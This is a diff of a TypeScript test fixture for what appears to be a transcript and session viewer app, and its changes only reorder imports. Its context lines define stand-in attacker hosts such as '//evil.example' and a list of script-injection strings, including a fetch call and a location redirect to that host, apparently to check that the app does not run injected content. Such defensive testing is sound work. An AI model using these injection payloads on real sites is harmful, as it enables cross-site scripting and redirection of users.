@@ -1,10 +1,9 @@
-import type { BlockRow, CallFacts, MessageRow } from '../../../src/api/transcript.ts';
-import type { SessionDetail } from '../../../src/api/sessions.ts';
-import type { SavedView } from '../../../src/api/views.ts';
 import type { StatusReport } from '../../../src/api/server.ts';
+import type { SessionDetail } from '../../../src/api/sessions.ts';
+import type { BlockRow, CallFacts, MessageRow } from '../../../src/api/transcript.ts';
+import type { SavedView } from '../../../src/api/views.ts';
 import type { DataSource } from '../../../src/app/data-source.ts';
 import { NOW } from '../../support/fixed-clock.ts';
-import { outlineInMemory } from './memory-outline.ts';
 import { createEmptyData } from './empty-data.ts';
 import {
   makeBlock,
@@ -15,6 +14,7 @@ import {
   makeSession,
   makeStatus,
 } from './make-rows.ts';
+import { outlineInMemory } from './memory-outline.ts';
 
 const HOSTS = ['//evil.example', 'https://evil.example', 'http://127.0.0.1:9'];
 const RUN = ['window.hacked=1', "alert('hacked')", "fetch('//evil.example/x')", 'location="//evil.example"'];
